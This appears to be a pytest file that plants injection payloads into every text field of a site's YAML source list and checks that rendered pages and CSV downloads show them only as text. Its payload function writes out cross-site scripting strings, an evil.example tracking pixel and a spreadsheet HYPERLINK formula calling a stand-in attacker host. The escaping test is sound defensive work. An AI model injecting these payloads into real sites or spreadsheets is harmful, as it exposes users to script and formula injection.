"""A hostile source list: every text field of every record carries markup and a spreadsheet formula,
and the site shows each one as text. The fields are not listed by hand: `plant` walks the pydantic
models of tools/model/sourcelist.py, so a text field added to a record is attacked without touching
this file; one that cannot carry the attack (its words must be the chapter's, or name a field) is
in EXEMPT with why.

The payload holds no quotation mark and no digit, so the checker has nothing to say about it (its
words are quoted nowhere, its facts state no number): what is left is whether the rendered site
(tools/site, then Python-Markdown as the engine runs it) turns any of it into markup. The output
guard must find nothing live, and the pages hold none of it as markup either."""

from __future__ import annotations

import csv
import io
import typing
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import Project, copy_project
from inprocess import guard, write_site
from pydantic import BaseModel

from tools.checker import Result
from tools.model import sourcelist
from tools.model.findings import Finding
from tools.model.html import local, parse, text_of

MARK = "HOSTILE-"


def payload(marker: str) -> str:
    return (
        f"=HYPERLINK(http://evil.example/?{marker}) {marker} <script>alert()</script> <img src=x onerror=alert()> "
        "<iframe srcdoc=&lt;script&gt;alert()&lt;/script&gt;></iframe> [click](javascript:alert()) "
        "![pixel](https://evil.example/pixel.png) { onclick=alert() } {: #planted } [^note] &amp;lt;b&amp;gt;"
    )


EXEMPT: dict[tuple[str, str], str] = {
    ("Quotation", "text"): "the chapter's words, checked part by part against the page",
    ("Quotation", "introduced_as"): "the spelling before the quotation in the chapter's prose",
    ("Person", "variants"): "spellings of a name (values.Spelling): never a sentence",
    ("Note", "term"): "words of its paragraph",
    ("ScareQuote", "text"): "words of the chapter",
    ("ScareQuote", "page"): "a chapter page",
    ("SourceList", "not_names"): "words of the chapter",
    ("Citation", "covers"): "the names of fact fields",
    ("Policy", "reference_covers"): "the names of fact fields",
}
NOT_SHOWN: dict[tuple[str, str], str] = {
    ("MirrorSite", "copies"): "the policy's note on a copy site: the checker's",
    ("UnauthorisedSite", "what"): "the policy's note on an e-book site: the checker's",
}


def _validators(annotation: Any) -> set[str]:
    if typing.get_origin(annotation) is typing.Annotated:
        head, *meta = typing.get_args(annotation)
        return {getattr(getattr(m, "func", None), "__name__", "") for m in meta} | _validators(head)
    return set().union(*(_validators(a) for a in typing.get_args(annotation)))


def _models(annotation: Any) -> list[type[BaseModel]]:
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        return [annotation]
    return [m for a in typing.get_args(annotation) for m in _models(a)]


def plant(model: type[BaseModel], raw: dict[str, Any], planted: set[tuple[str, str]]) -> None:
    for name, info in model.model_fields.items():
        key = info.alias or name
        where = (model.__name__, name)
        if key not in raw or raw[key] is None or where in EXEMPT:
            continue
        value = raw[key]
        if "_text" in _validators(info.annotation) | {
            getattr(getattr(m, "func", None), "__name__", "") for m in info.metadata
        }:
            marker = f"{MARK}{model.__name__}-{name}"
            # in front of what was there: a fact keeps the numbers its sources give
            raw[key] = (
                [f"{payload(marker)} {v}" for v in value] if isinstance(value, list) else f"{payload(marker)} {value}"
            )
            planted.add(where)
            continue
        for nested in _models(info.annotation):
            items = (
                value.values()
                if isinstance(value, dict) and nested is sourcelist.StatusText
                else (value if isinstance(value, list) else [value])
            )
            for item in items:
                if isinstance(item, dict):
                    plant(nested, item, planted)


def every_text_field() -> set[tuple[str, str]]:
    found: set[tuple[str, str]] = set()
    todo: list[type[BaseModel]] = [sourcelist.SourceList]
    while todo:
        model = todo.pop()
        for name, info in model.model_fields.items():
            if "_text" in _validators(info.annotation) | {
                getattr(getattr(m, "func", None), "__name__", "") for m in info.metadata
            }:
                found.add((model.__name__, name))
            todo += [m for m in _models(info.annotation) if m is not model]
    return found


@dataclass(frozen=True)
class Hostile:
    project: Project
    planted: set[tuple[str, str]]
    result: Result
    site: Path  # the rendered pages and downloads
    guard: list[Finding]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    """The real source list (every kind of record is in it), planted, checked and rendered once."""
    project = copy_project(tmp_path_factory.mktemp("hostile") / "project")
    data = yaml.safe_load(project.read("data/sources.yml"))
    planted: set[tuple[str, str]] = set()
    plant(sourcelist.SourceList, data, planted)
    project.write("data/sources.yml", yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000))
    project.admit()  # the planted words are the point here, not whether a source gave them
    result = project.check()
    site = tmp_path_factory.mktemp("site")
    found = guard(write_site(result, project.root, site), result) if result.checked is not None else []
    return Hostile(project, planted, result, site, found)


def test_every_text_field_is_planted_or_exempt(hostile: Hostile) -> None:
    assert every_text_field() - hostile.planted - set(EXEMPT) == set()


def test_the_checker_and_the_guard_find_nothing_live(hostile: Hostile) -> None:
    assert [str(f) for f in hostile.result.findings] == []
    assert [str(f) for f in hostile.guard] == []


def test_every_planted_field_is_shown_as_text_and_nothing_of_it_as_markup(hostile: Hostile) -> None:
    shown = ""
    for path in sorted(hostile.site.rglob("*.html")):
        root = parse(path.read_text(encoding="utf-8"))
        live = [element for element in root.iter() if _live(element)]
        assert live == [], f"{path.name}: {[ET.tostring(e, encoding='unicode')[:120] for e in live]}"
        shown += text_of(root)
    for row in csv.reader(io.StringIO((hostile.site / "quotations.csv").read_text(encoding="utf-8"))):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
    shown += "".join(
        p.read_text(encoding="utf-8") for p in hostile.site.iterdir() if p.suffix in (".csv", ".json", ".ris", ".bib")
    )
    missing = {field for field in hostile.planted if f"{MARK}{field[0]}-{field[1]}" not in shown}
    assert missing == set(NOT_SHOWN), NOT_SHOWN


def _live(element: ET.Element) -> bool:
    """An element or attribute the payload would make if any of it were read as markup."""
    name = local(element.tag)
    return (
        name in ("script", "img", "iframe", "sup")
        or any(local(a).startswith("on") for a in element.attrib)
        or element.get("id") in ("planted", "fnref:note")
        or (element.get("href") or "").startswith(("javascript", "https://evil", "http://evil"))
    )


def test_the_planted_values_are_the_payload(hostile: Hostile) -> None:
    """Not vacuous: the source list holds the payload, once a field."""
    text = hostile.project.read("data/sources.yml")
    assert len(hostile.planted) > 40 and all(f"{MARK}{cls}-{name}" in text for cls, name in hostile.planted)
